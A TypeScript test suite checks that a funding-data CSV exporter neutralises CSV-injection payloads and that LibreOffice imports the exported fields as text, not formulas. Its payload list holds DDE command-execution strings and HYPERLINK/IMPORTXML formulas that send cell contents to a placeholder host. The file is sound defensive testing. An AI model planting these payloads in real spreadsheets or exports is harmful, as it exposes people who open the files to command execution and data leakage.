import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { csvField, isFormulaLike, toCsvText } from '../../../src/core/export/csv-safe';
import { exportScdl } from '../../../src/core/export/scdl';
import type { Dataset, FundingLine, Reference } from '../../../src/core/model/domain';
import { parseCsv } from '../../../src/core/parse/parse-csv';
import { defaultReference } from '../../../src/core/reference/default-reference';
import { hasSoffice } from '../../helpers/soffice';
import { sofficeBinary } from '../../../src/adapters/node/soffice';

/** Payloads from OWASP's CSV injection page and the issue: each starts a formula or a DDE call in a spreadsheet. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")',
  '=1+1',
  '+33 4 75 00 00 00',
  '+1+1',
  '-2+3',
  '- Animation (tiret)',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://exemple.invalid/?v=", A2), "//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

describe('csvField (OWASP CSV injection)', () => {
  test.each(PAYLOADS)('%j is prefixed with a quote and enclosed in double quotes', (p) => {
    const f = csvField(p);
    expect(f.startsWith(`"'`)).toBe(true);
    expect(f.endsWith('"')).toBe(true);
    // read back by an RFC 4180 reader: the quote, then the text unchanged
    expect(parseCsv(`${f}\r\n`, ',')[0]).toEqual([`'${p}`]);
  });

  test.each([
    ['12500.00', '12500.00'],
    ['-12.50', '-12.50'],
    ['+3', '+3'],
    ['-1e5', '-1e5'],
    ['1', '1'],
    ['Centre social Les Oliviers', 'Centre social Les Oliviers'],
    ['a=b', 'a=b'],
    ['Dupont, Durand', '"Dupont, Durand"'],
    ['dit "le Lavoir"', '"dit ""le Lavoir"""'],
    ['', ''],
  ])('%j is left as it is (numbers untouched) → %j', (v, expected) => {
    expect(csvField(v)).toBe(expected);
  });

  test('isFormulaLike', () => {
    expect(PAYLOADS.every(isFormulaLike)).toBe(true);
    expect(['-5', '+5.5', '12', 'ok', ' =1'].some(isFormulaLike)).toBe(false);
  });
});

const SIRET = '41234567800012';

function dataset(texts: string[]): Dataset {
  const fundings: FundingLine[] = texts.map((t, i) => ({
    id: i,
    partner: 'CAF',
    structureName: t,
    siret: SIRET,
    year: 2020,
    object: t,
    dispositifLabel: t,
    voted: 1000 + i,
    status: 'voté',
    decisionDate: '2020-03-15',
    conventionRef: t,
    source: { file: 'caf.xlsx', sheet: 'PS 2020', row: i + 2 },
    cols: { structureName: 'B', object: 'F', dispositifLabel: 'E', conventionRef: 'G' },
  }));
  return { partners: [], structures: [], conventions: [], fundings };
}

function reference(): Reference {
  const ref = defaultReference();
  for (const p of ref.partners) p.siret = '11111111100014';
  return ref;
}

describe('export-scdl: no field opens as a formula', () => {
  const { files, findings } = exportScdl(dataset(PAYLOADS), reference());
  const csv = files[0].csv;

  test('every payload is published neutralised, and each one is a finding naming its source cell', () => {
    const rows = parseCsv(csv, ',');
    const header = rows[0].map(String);
    for (const [i, p] of PAYLOADS.entries()) {
      const row = rows[i + 1].map((v) => String(v ?? ''));
      for (const f of ['nomBeneficiaire', 'objet', 'dispositifAide', 'referenceDecision'])
        expect([f, row[header.indexOf(f)]]).toEqual([f, `'${p}`]);
      expect(row[header.indexOf('montant')]).toBe((1000 + i).toFixed(2)); // numbers untouched
    }
    const formula = findings.filter((f) => f.code === 'SCDL_TEXTE_FORMULE');
    expect(formula).toHaveLength(PAYLOADS.length * 4);
    const first = formula.filter((f) => f.location?.row === 2);
    expect(first.map((f) => f.location?.col).sort()).toEqual(['B', 'E', 'F', 'G']);
    expect(first[0].message).toContain("=cmd|' /C calc'!A0");
    expect(first[0].message).toContain('précédé d');
  });

  test('a field never starts with a formula character outside its quotes', () => {
    for (const line of csv.split('\r\n').slice(1, -1))
      for (const cell of parseCsv(line + '\r\n', ',')[0]) expect(String(cell ?? '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  (hasSoffice ? test : test.skip)(
    "LibreOffice's CSV import turns no field into a formula (and would, without the neutralisation)",
    () => {
      const dir = mkdtempSync(path.join(os.tmpdir(), 'avs-csvinj-'));
      const safe = path.join(dir, 'safe.csv');
      const raw = path.join(dir, 'raw.csv');
      writeFileSync(safe, csv, 'utf8');
      // the same rows written without neutralisation: the check below must see formulas in it
      const rawCsv = [['nom', 'objet'], ...PAYLOADS.map((p) => [p, p])]
        .map((r) => r.map((v) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',') + '\r\n')
        .join('');
      writeFileSync(raw, rawCsv, 'utf8');
      const profile = path.join(dir, 'profile');
      for (const f of [safe, raw]) {
        const r = spawnSync(
          sofficeBinary(),
          [`-env:UserInstallation=file://${profile}`, '--headless', '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true', '--convert-to', 'xlsx', '--outdir', dir, f],
          { timeout: 120000, encoding: 'utf8' },
        );
        expect(r.status).toBe(0);
      }
      const py = `
import openpyxl, sys, json
out = {}
for name in sys.argv[1:]:
    wb = openpyxl.load_workbook(name)
    out[name] = sum(1 for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == 'f' or (isinstance(c.value, str) and c.value.startswith('=')))
print(json.dumps(out))
`;
      const r = spawnSync('/usr/bin/python3', ['-c', py, path.join(dir, 'safe.xlsx'), path.join(dir, 'raw.xlsx')], { encoding: 'utf8' });
      expect(r.stderr).toBe('');
      const counts = JSON.parse(r.stdout) as Record<string, number>;
      expect(counts[path.join(dir, 'safe.xlsx')]).toBe(0);
      expect(counts[path.join(dir, 'raw.xlsx')]).toBeGreaterThan(0);
    },
    240000,
  );

  test('toCsvText quotes a tab-separated field holding a tab', () => {
    expect(toCsvText([['a\tb', 'c']], '\t')).toBe('"a\tb"\tc\r\n');
  });
});
